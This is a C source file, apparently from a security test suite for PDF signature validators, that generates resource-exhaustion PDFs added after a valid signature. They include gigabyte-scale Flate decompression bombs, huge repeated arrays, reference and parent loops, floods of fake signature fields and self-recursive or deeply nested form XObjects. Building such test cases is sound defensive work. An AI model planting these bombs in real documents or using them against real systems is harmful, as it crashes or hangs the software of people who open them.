/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Resource exhaustion: loops, depths, counts and streams that blow up, put
 * behind a good signature. The answer comes soon, and is not yes.
 */

#include "anky-attack.h"
#include "anky-forge.h"

#include <string.h>

#define TRAILER                                                                \
  "/Root 1 0 R/Info 17 0 R/ID[<0123456789abcdef><0123456789abcdef>]"

static char *
repeat (const char *text, guint n)
{
  GString *whole = g_string_new (NULL);

  for (guint i = 0; i < n; i++)
    g_string_append (whole, text);
  return g_string_free (whole, FALSE);
}

/* Object attack->number is attack->text so many times, between brackets. */
static GBytes *
forge_repeated (GBytes *letter, const AnkyAttack *self)
{
  g_autofree char *body = repeat (self->text, 200000);
  g_autoptr (GString) object = g_string_new (self->more);
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);

  g_string_replace (object, "%s", body, 1);
  anky_forge_append_object (forge, self->number, "%s", object->str);
  anky_forge_append_table (forge, TRAILER);
  return anky_forge_finish (forge);
}

/* As if each level of Flate were one more. */
static GBytes *
deflate (gsize size)
{
  g_autoptr (GZlibCompressor) compressor =
      g_zlib_compressor_new (G_ZLIB_COMPRESSOR_FORMAT_ZLIB, 9);
  g_autoptr (GOutputStream) memory = g_memory_output_stream_new_resizable ();
  g_autoptr (GOutputStream) stream =
      g_converter_output_stream_new (memory, G_CONVERTER (compressor));
  g_autofree guint8 *zeros = g_malloc0 (1 << 20);

  for (gsize i = 0; i < size >> 20; i++)
    g_output_stream_write_all (stream, zeros, 1 << 20, NULL, NULL, NULL);
  g_output_stream_close (stream, NULL, NULL);
  return g_memory_output_stream_steal_as_bytes (
      G_MEMORY_OUTPUT_STREAM (memory));
}

/* The stream itself may hold zeros: it goes in as an object of the update. */
static void
edit_bomb (AnkyPdfUpdate *update, AnkyPdfDocument *document, gpointer data)
{
  const AnkyAttack *attack = data;
  g_autoptr (AnkyPdfObject) keys = anky_forge_parse ("%s", attack->text);
  g_autoptr (GBytes) bytes = deflate (1u << 30);
  AnkyPdfObject *dict = anky_pdf_object_copy (keys);
  AnkyPdfRef ref = { LETTER_CATALOG, 0 };
  AnkyPdfObject *catalog =
      anky_pdf_object_copy (anky_pdf_update_get (update, ref, NULL));

  anky_pdf_dict_set (
      catalog,
      attack->more,
      anky_pdf_reference_new (
          anky_pdf_update_add (update, anky_pdf_stream_new (dict, bytes))));
  anky_pdf_update_set (update, ref, catalog);
}

static GBytes *
forge_bomb (GBytes *letter, const AnkyAttack *self)
{
  return anky_forge_update (letter, edit_bomb, (gpointer) self);
}

/* So many revisions that say nothing new. */
static GBytes *
forge_revisions (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);

  for (guint i = 0; i < self->number; i++) {
    anky_forge_append_object (forge, LETTER_INFO, "<</Title(%u)>>", i);
    anky_forge_append_table (forge, TRAILER);
  }
  return anky_forge_finish (forge);
}

/* So many fields with a value each that is no signature. */
static GBytes *
forge_fields (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);
  g_autoptr (GString) fields = g_string_new (NULL);

  for (guint i = 0; i < self->number; i++) {
    anky_forge_append_object (forge,
                              1000 + i,
                              "<</FT/Sig/T(f%u)/V<</Type/Sig/SubFilter/"
                              "ETSI.CAdES.detached/ByteRange[0 1 2 3]/"
                              "Contents<00>>>>>",
                              i);
    g_string_append_printf (fields, "%u 0 R ", 1000 + i);
  }
  anky_forge_append_object (forge,
                            LETTER_FORM,
                            "<</Fields[9 0 R 10 0 R 11 0 R %u 0 R %s]>>",
                            anky_attack_find (letter).field,
                            fields->str);
  anky_forge_append_table (forge, TRAILER);
  return anky_forge_finish (forge);
}

/* A form that paints itself, as what a new field shows. */
static GBytes *
forge_recursion (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);

  anky_forge_append_stream (forge,
                            950,
                            "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/"
                            "Resources<</XObject<</X 950 0 R>>>>>>",
                            "/X Do /X Do /X Do");
  anky_forge_append_object (forge,
                            LETTER_TEXT_FIELD,
                            "<</Type/Annot/Subtype/Widget/FT/Tx/T(amount)/F "
                            "4/P 3 0 R/Rect[72 690 472 730]/AP<</N 950 0 "
                            "R>>>>");
  anky_forge_append_table (forge, TRAILER);
  return anky_forge_finish (forge);
}

/* Forms that paint the next one ten times each, eight deep, in a field that was
 * filled in as is permitted: only who draws it finds out. */
static GBytes *
forge_tower (GBytes *letter, const AnkyAttack *self)
{
  g_autoptr (AnkyForge) forge = anky_forge_new (letter);

  for (guint i = 0; i < 8; i++) {
    g_autofree char *dict =
        g_strdup_printf ("<</Type/XObject/Subtype/Form/BBox[0 0 200 20]/"
                         "Resources<</XObject<</X %u 0 R>>/Font<</F1 12 0 R"
                         ">>>>>>",
                         951 + i);

    anky_forge_append_stream (forge,
                              950 + i,
                              dict,
                              i == 0 ? "BT /F1 12 Tf 2 5 Td (hai trieu) Tj ET "
                                       "/X Do /X Do /X Do /X Do /X Do /X Do"
                                     : "/X Do /X Do /X Do /X Do /X Do "
                                       "/X Do /X Do /X Do /X Do /X Do");
  }
  anky_forge_append_stream (forge,
                            958,
                            "<</Type/XObject/Subtype/Form/BBox[0 0 200 20]>>",
                            "0 0 m 1 1 l S");
  anky_forge_append_object (forge,
                            LETTER_TEXT_FIELD,
                            "<</Type/Annot/Subtype/Widget/FT/Tx/T(amount)/F "
                            "4/P 3 0 R/Rect[72 560 272 580]/DA(/F1 12 Tf 0 g)"
                            "/V(hai trieu)/AP<</N 950 0 R>>>>");
  anky_forge_append_table (forge, TRAILER);
  return anky_forge_finish (forge);
}

#define P        ANKY_VICTIM_PLAIN
#define REPEATED P, FALSE, forge_repeated

const AnkyAttack anky_attacks_bombs[] = {
  { "bomb/kids",
    REPEATED,
    LETTER_PAGES,
    "3 0 R ",
    "<</Type/Pages/Count 9/Kids[%s]>>" },
  { "bomb/kids-loop",
    REPEATED,
    LETTER_PAGES,
    "2 0 R ",
    "<</Type/Pages/Count 9/Kids[%s]>>" },
  { "bomb/kids-missing",
    REPEATED,
    LETTER_PAGES,
    "999 0 R ",
    "<</Type/Pages/Count 9/Kids[%s]>>" },
  { "bomb/depth", REPEATED, LETTER_RESOURCES, "[", "<</Font %s>>" },
  { "bomb/dictionaries", REPEATED, LETTER_RESOURCES, "<</a ", "%s" },
  { "bomb/fields-loop", REPEATED, LETTER_FORM, "9 0 R ", "<</Fields[%s]>>" },
  { "bomb/annotations", REPEATED, LETTER_ANNOTS, "10 0 R ", "[%s]" },
  { "bomb/annotations-self", REPEATED, LETTER_ANNOTS, "19 0 R ", "[%s]" },
  { "bomb/contents",
    REPEATED,
    LETTER_PAGE,
    "6 0 R ",
    "<</Type/Page/Parent 2 0 R/Contents[%s]>>" },
  { "bomb/reference-loop",
    P,
    FALSE,
    anky_attack_set_object,
    LETTER_ANNOTS,
    "19 0 R" },
  { "bomb/reference-pair",
    P,
    FALSE,
    anky_attack_set_object,
    LETTER_FORM,
    "5 0 R" },
  { "bomb/parent-loop",
    P,
    FALSE,
    anky_attack_set_keys,
    LETTER_PAGES,
    "<</Parent 2 0 R>>" },
  { "bomb/field-parent-loop",
    P,
    FALSE,
    anky_attack_set_keys,
    LETTER_TEXT_FIELD,
    "<</Parent 9 0 R>>" },
  { "bomb/field-kids-loop",
    P,
    FALSE,
    anky_attack_set_keys,
    LETTER_TEXT_FIELD,
    "<</Kids[9 0 R]>>" },
  { "bomb/metadata",
    P,
    FALSE,
    forge_bomb,
    0,
    "<</Type/Metadata/Subtype/XML/Filter/FlateDecode>>",
    "Metadata" },
  { "bomb/metadata-twice",
    P,
    FALSE,
    forge_bomb,
    0,
    "<</Type/Metadata/Subtype/XML/Filter[/FlateDecode/FlateDecode]>>",
    "Metadata" },
  { "bomb/form",
    P,
    FALSE,
    forge_bomb,
    0,
    "<</Filter/FlateDecode>>",
    "AcroForm" },
  { "bomb/pages", P, FALSE, forge_bomb, 0, "<</Filter/FlateDecode>>", "Pages" },
  { "bomb/revisions", P, FALSE, forge_revisions, 1200 },
  { "bomb/fields", P, FALSE, forge_fields, 1500 },
  { "bomb/recursion", P, FALSE, forge_recursion },
  { "bomb/tower", P, TRUE, forge_tower },
  { NULL },
};
